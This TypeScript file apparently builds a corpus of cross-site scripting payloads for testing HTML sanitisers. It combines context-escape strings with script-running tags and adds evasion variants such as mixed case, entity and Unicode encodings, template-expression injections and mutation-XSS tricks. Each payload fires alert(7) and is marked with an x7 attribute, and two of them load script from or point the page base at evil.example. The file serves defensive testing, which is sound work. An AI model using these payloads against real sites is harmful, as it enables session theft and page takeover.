/**
 * Texts that would run if a page took them for markup: ways out of each context a text stands in, times things that act
 * once they are out (after OWASP's testing guide and the HTML standard's own parsing rules). Each acts by `alert(7)`, and
 * each element carries the attribute `x7`, so that it is seen even where a policy stops it.
 */

/** Ends whatever the text may stand in: text, attribute, title, text area, script, comment, style, foreign content. */
const waysOut = [
  "",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</script>",
  "-->",
  "</style>",
  "]]>",
  "</noscript>",
  "</option></select>",
  "</svg>",
] as const;

const actors = [
  "<script x7>alert(7)</script>",
  "<img x7 src=x onerror=alert(7)>",
  "<svg x7 onload=alert(7)>",
  "<details x7 open ontoggle=alert(7)>",
  '<iframe x7 srcdoc="<script>parent.alert(7)</script>"></iframe>',
  "<video x7><source onerror=alert(7)></video>",
  "<input x7 autofocus onfocus=alert(7)>",
  "<a x7 href=javascript:alert(7)>go</a>",
  "<style x7>@import 'javascript:alert(7)';</style>",
  "<object x7 data=javascript:alert(7)></object>",
  "<math x7><mi xlink:href=javascript:alert(7)>go</mi></math>",
  "<base x7 href=//evil.example/>",
  "<form x7 action=javascript:alert(7)><button>go</button></form>",
] as const;

const others = [
  '" autofocus onfocus=alert(7) x7="',
  "' onmouseover=alert(7) x7='",
  "` onload=alert(7) x7 `",
  " onload=alert(7) x7 ",
  '"/onmouseover="alert(7)"/x7="',
  "javascript:alert(7)",
  "JaVaScRiPt:alert(7)",
  "java\tscript:alert(7)",
  "data:text/html,<script x7>alert(7)</script>",
  "vbscript:alert(7)",
  "{{constructor.constructor('alert(7)')()}}",
  "${alert(7)}",
  "#{alert(7)}",
  "<%= alert(7) %>",
  "[[alert(7)]]",
  "<ScRiPt x7>alert(7)</sCrIpT>",
  "<script x7 src=//evil.example/7.js></script>",
  "<<script x7>alert(7)//<</script>",
  "<script\u2028x7>alert(7)</script>",
  "<script/x7>alert(7)</script>",
  "<scr<script x7>ipt>alert(7)</script>",
  "<img x7 src=x onerror=\u0061lert(7)>",
  "<img/x7/src=x/onerror=alert(7)>",
  "<img x7 src=x onerror\n=alert(7)>",
  "<svg x7><script>alert(7)</script></svg>",
  "<svg x7><animate onbegin=alert(7) attributeName=x dur=1s>",
  '<noscript><p title="</noscript><img x7 src=x onerror=alert(7)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img x7 src=1 onerror=alert(7)&gt;">',
  "<template x7><img src=x onerror=alert(7)></template>",
  "<custom-element x7 onclick=alert(7)>go</custom-element>",
  "&lt;script x7&gt;alert(7)&lt;/script&gt;",
  "&#60;script x7&#62;alert(7)&#60;/script&#62;",
  "%3Cscript x7%3Ealert(7)%3C/script%3E",
  "\\u003cscript x7\\u003ealert(7)\\u003c/script\\u003e",
  "\uff1cscript x7\uff1ealert(7)\uff1c/script\uff1e",
  "+ADw-script x7+AD4-alert(7)+ADw-/script+AD4-",
  "*/alert(7)/*",
  "';alert(7);//",
  '";alert(7);//',
  "\\';alert(7);//",
  "</script><script x7>alert(7)</script>",
  '#let x = eval("alert(7)")',
] as const;

export const scripts: readonly string[] = [
  ...waysOut.flatMap((out) => actors.map((actor) => `${out}${actor}`)),
  ...others,
];
